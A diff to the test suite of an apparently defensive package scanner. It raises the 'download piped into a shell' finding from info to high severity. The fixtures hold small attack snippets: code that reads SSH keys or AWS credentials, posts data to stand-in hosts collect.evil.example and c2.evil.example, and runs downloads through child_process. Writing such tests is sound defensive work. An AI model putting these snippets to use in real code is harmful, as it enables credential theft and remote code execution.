@@ -27,7 +27,7 @@ post({ hostname: "collect.evil.example", method: "POST" }).end(key);`,
       "z/io.js": `const fs = require("fs"); exports.readKey = fs.readFileSync; exports.post = require("https").request;`,
     };
     expect(seen(files, "a-index.js")).toEqual([
-      '2 info Runs "curl" and "sh" (child_process.exec)',
+      '2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will',
       "3 high Reads SSH keys (~/.ssh/id_rsa)",
       "4 info Opens an outbound connection (https.request) to collect.evil.example",
     ]);
@@ -110,7 +110,7 @@ export default fs;`,
       "shell.js": `export default require("child_process");`,
     };
     expect(seen(files, "a-index.mjs")).toEqual(["2 high Reads AWS credentials (/home/u/.aws/credentials)"]);
-    expect(seen(files, "b-main.js")).toEqual(['2 info Runs "curl" and "sh" (child_process.exec)']);
+    expect(seen(files, "b-main.js")).toEqual(['2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will']);
   });
 
   it("follows a chain of any length in one more reading of the importer, whatever order the files sort in", () => {
@@ -157,7 +157,7 @@ require("#lib/net").get("https://c2.evil.example/x");`,
     };
     expect(seen(files, "a-index.mjs")).toEqual([
       "3 high Reads SSH keys (/home/u/.ssh/id_rsa)",
-      '4 info Runs "curl" and "sh" (child_process.execSync)',
+      '4 high Runs what it downloads (a download piped into a shell: child_process.execSync): code no reviewer has seen, which its server can change at will',
       "5 info Opens an outbound connection (https.get) to c2.evil.example",
     ]);
   });
@@ -170,7 +170,7 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       "node_modules/@acme/io/package.json": JSON.stringify({ name: "@acme/io", exports: { ".": { require: "./io.cjs" } } }),
       "node_modules/@acme/io/io.cjs": `module.exports = { slurp: require("fs").readFileSync };`,
     };
-    expect(seen(files, "a-index.js")).toEqual(['2 info Runs "curl" and "sh" (child_process.exec)', "3 high Reads SSH keys (~/.ssh/id_rsa)"]);
+    expect(seen(files, "a-index.js")).toEqual(['2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will', "3 high Reads SSH keys (~/.ssh/id_rsa)"]);
   });
 
   it("replays merges as JavaScript runs them: what replaces what, and what a star merge leaves alone", () => {
@@ -225,7 +225,7 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       'blob.bin:1 exec info Runs "wget" (child_process.exec)',
       "lib/io:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
       "payload.map:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
-      'payload.map:1 exec info Runs "curl" and "sh" (child_process.execSync)',
+      'payload.map:1 exec high Runs what it downloads (a download piped into a shell: child_process.execSync): code no reviewer has seen, which its server can change at will',
     ]);
   });
 
@@ -235,7 +235,7 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       "package.json": JSON.stringify({ name: "my-server", exports: { ".": "./a-index.js", "./shell": "./lib/shell.js" } }),
       "lib/shell.js": `exports.run = require("child_process").exec;`,
     };
-    expect(seen(files, "a-index.js")).toEqual(['1 info Runs "curl" and "sh" (child_process.exec)']);
+    expect(seen(files, "a-index.js")).toEqual(['1 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will']);
   });
 
   it("resolves a #name for each file as it loads, an ES module and a CommonJS file of one folder alike", () => {
@@ -247,6 +247,6 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       "evil.mjs": `export { exec as run } from "node:child_process";`,
     };
     expect(seen(files, "a-index.cjs")).toEqual([]);
-    expect(seen(files, "b-main.mjs")).toEqual(['2 info Runs "curl" and "sh" (child_process.exec)']);
+    expect(seen(files, "b-main.mjs")).toEqual(['2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will']);
   });
 });
